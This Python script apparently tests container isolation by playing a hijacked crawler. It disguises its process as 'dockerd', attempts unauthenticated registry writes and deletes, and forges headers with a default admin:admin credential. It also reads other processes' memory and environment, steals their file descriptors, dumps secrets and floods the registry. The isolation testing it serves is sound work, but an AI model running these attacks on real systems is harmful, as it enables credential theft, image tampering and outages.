"""A spider that was taken over: it tries all that its container has within reach
to get at images, keys and the cluster, and prints what came of it, a JSON value
on each line: {kind, what, got, text}."""
import ctypes, errno, json, os, signal, socket, ssl, sys, threading

own, manager, name, tag, digest, blob, manifest, staying = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(15, b"dockerd")  # PR_SET_NAME: who only looks at names is fooled
lines = threading.Lock()


def report(kind, what, got, text=b""):
    with lines:
        print(json.dumps({"kind": kind, "what": what, "got": got, "text": text.decode("latin-1")}), flush=True)


def attempt(kind, what, action):
    """Reports what action returns, or the name of its error."""
    try:
        got = action()
    except OSError as e:
        return report(kind, what, errno.errorcode.get(e.errno, type(e).__name__))
    report(kind, what, "done", got if isinstance(got, bytes) else repr(got).encode())


def connect(host, port, tls, source=0):
    """Connects from a port, or from any."""
    loopback = host in ("127.0.0.1", "localhost")
    conn = socket.create_connection((host, port), 20, ("127.0.0.1" if loopback else own, source) if source else None)
    if tls:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        conn = context.wrap_socket(conn)
    return conn


def request(conn, method, path, headers, body=b""):
    """Sends one request and returns status and answer."""
    head = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    conn.sendall(f"{method} {path} HTTP/1.1\r\n{head}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
    answer = b""
    while chunk := conn.recv(65536):
        answer += chunk
    return int(answer.split(b" ", 2)[1]), answer


def http(kind, host, port, tls, method, path, body=b"", source=0, **headers):
    what = f"{method} {'https' if tls else 'http'}://{host}:{port}{path} {headers} from port {source or 'any'}"
    headers = {"Host": f"{host}:{port}", "User-Agent": "docker/20.10.24"} | {k.replace("_", "-"): v for k, v in headers.items()}
    try:
        with connect(host, port, tls, source) as conn:
            status, answer = request(conn, method, path, headers, body)
    except OSError as e:
        return report(kind, what, errno.errorcode.get(e.errno, type(e).__name__))
    report(kind, what, str(status), answer)


image = f"/v2/{name}"
reads = ["/v2/", "/v2/_catalog", f"{image}/tags/list", f"{image}/manifests/{tag}", f"{image}/manifests/{digest}", f"{image}/blobs/{blob}"]


def registry(host, tls):
    """Reads and writes at one address of the registry."""
    kind = "closed" if tls and host != manager else "registry"  # a worker has it on loopback only
    for path in reads:
        http(kind, host, 8003, tls, "GET", path)
        http(kind, host, 8003, tls, "HEAD", path)
    http(kind, host, 8003, tls, "POST", "/v2/stolen/blobs/uploads/")
    http(kind, host, 8003, tls, "POST", f"/v2/stolen/blobs/uploads/?from={name}&mount={blob}")
    http(kind, host, 8003, tls, "PUT", "/v2/stolen/manifests/1", manifest.encode(), Content_Type="application/vnd.docker.distribution.manifest.v2+json")
    http(kind, host, 8003, tls, "PUT", f"{image}/manifests/{tag}", manifest.encode(), Content_Type="application/vnd.docker.distribution.manifest.v2+json")
    http(kind, host, 8003, tls, "DELETE", f"{image}/manifests/{digest}")
    for headers in (
        {"Host": f"{manager}:8003"}, {"Host": "localhost:8003"}, {"Host": "127.0.0.1:8003"}, {"Host": ""},
        {"X_Forwarded_For": "127.0.0.1"}, {"X_Forwarded_For": manager}, {"X_Real_IP": "127.0.0.1"}, {"Forwarded": f"for={manager};host=localhost:8003"},
        {"Authorization": "Bearer x"}, {"Authorization": "Basic YWRtaW46YWRtaW4="}, {"Origin": "http://localhost:8003"},
    ):
        http(kind, host, 8003, tls, "GET", reads[3], **headers)
    if tls:
        http(kind, host, 8003, tls, "GET", "/token")
        http(kind, host, 8003, tls, "GET", f"/token?service=crawlbox&scope=repository:{name}:pull,push")
    for source in (80, 600, 900) if kind == "registry" else ():
        # Two spiders on a host must not want the same one at the same time.
        http("port", host, 8003, tls, "GET", reads[3], source=source + (40 if staying == "stay" else 0))


def nodes(host):
    """Comes as a node without a certificate."""
    for method, path in (("GET", reads[3]), ("POST", "/v1/follow"), ("POST", "/v1/renew"), ("POST", "/v1/leave"), ("POST", "/v1/owner"), ("GET", "/v1/status")):
        http("nodes", host, 7980, True, method, path, b'{"version":1}')


def gossip(host):
    """Says what members say, without the key."""
    for packet in (b"\0\x82\xa5SeqNo\1\xa4Node\xa0", b"\6\x83\xa5Nodes\0\xacUserStateLen\0\xa4Join\xc3", b"x" * 200):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.settimeout(0.1)
            udp.connect((host, 7981))
            udp.send(packet)
            try:
                report("silent", f"gossip packet to {host}", "answered", udp.recv(65536))
            except TimeoutError:
                report("silent", f"gossip packet to {host}", "silence")
        with socket.create_connection((host, 7981), 20) as tcp:
            tcp.sendall(packet)
            tcp.shutdown(socket.SHUT_WR)
            attempt("stream", f"gossip stream to {host}", lambda: tcp.recv(65536))


def queue():
    with socket.create_connection((manager, 7891), 20) as tcp:
        tcp.sendall(b"KEYS *\r\n")
        report("queue", "KEYS", tcp.recv(65536).decode().strip())


def local_api(root, kind):
    for path in ("/run/crawlbox.sock", "/var/run/crawlbox.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
        with socket.socket(socket.AF_UNIX) as conn:
            attempt(kind, "connect to " + root + path, lambda: conn.connect(root + path))
    for path in ("/var/lib/crawlbox", "/etc/crawlbox", "/var/lib/docker", "/etc/docker"):
        attempt(kind, "list " + root + path, lambda: os.listdir(root + path))


def abstract_sockets():
    """Those of the host's network, which have no files to be hidden."""
    for line in open("/proc/net/unix"):
        path = line.split()[7:]
        if not path or not path[0].startswith("@"):
            continue
        report("abstract", path[0], "seen")


def processes():
    """Those of the host, as far as they can be seen."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            mine = os.readlink(f"/proc/{pid}/ns/mnt") == os.readlink("/proc/self/ns/mnt")
        except OSError:
            mine = False
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read()
        except OSError:
            continue  # it has ended
        if mine or cmdline.startswith(b"python3\0"):  # another container
            continue
        report("process", pid, "seen", cmdline)
        local_api(f"/proc/{pid}/root", "hidden")
        for file in ("environ", "mem", "maps", "stack"):
            attempt("hidden", f"read /proc/{pid}/{file} of {cmdline[:40]}", lambda: open(f"/proc/{pid}/{file}", "rb").read(1))
        attempt("hidden", f"look at a file of {pid}", lambda: first(lambda n: os.stat(f"/proc/{pid}/fd/{n}")))
        attempt("hidden", f"open a file of {pid}", lambda: first(lambda n: os.open(f"/proc/{pid}/fd/{n}", os.O_RDONLY | os.O_NONBLOCK)))
        attempt("hidden", f"take a file of {pid}", lambda: take(int(pid)))


def first(action):
    """What action returns for the first of some file numbers for which it fails not."""
    for number in range(30):
        try:
            return action(number)
        except OSError as e:
            failed = e
    raise failed


def take(pid):
    def one(number):
        if (got := libc.syscall(438, handle, number, 0)) < 0:  # pidfd_getfd
            raise OSError(ctypes.get_errno(), "pidfd_getfd")
        return got

    handle = os.pidfd_open(pid)
    try:
        return first(one)
    finally:
        os.close(handle)


def hammer():
    """Asks over many connections at once until it is told to stop."""
    stop, counts, lock = threading.Event(), {}, threading.Lock()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())

    def worker(host, tls):
        while not stop.is_set():
            try:
                with connect(host, 8003, tls) as conn:
                    status, answer = request(conn, "GET", "/token" if tls else reads[3], {"Host": f"{host}:8003"})
                got = str(status)
            except OSError as e:
                got, answer = errno.errorcode.get(e.errno, type(e).__name__), b""
            with lock:
                first = got not in counts
                counts[got] = counts.get(got, 0) + 1
            if first:
                report("registry", f"hammer {host}", got, answer)

    threads = [threading.Thread(target=worker, args=at) for at in [("127.0.0.1", False)] * 6 + [(manager, True)] * 2]
    for t in threads:
        t.start()
    report("hammering", "", "")
    stop.wait()
    for t in threads:
        t.join()
    report("hammered", json.dumps(counts), str(sum(counts.values())))


for address in ("127.0.0.1", "localhost"):
    registry(address, False)
for address in {own, manager}:
    registry(address, True)
    nodes(address)
    gossip(address)
queue()
local_api("", "hidden")
abstract_sockets()
processes()
attempt("environment", "", lambda: json.dumps(dict(os.environ)).encode())
if staying == "stay":
    hammer()
report("end", "", "")
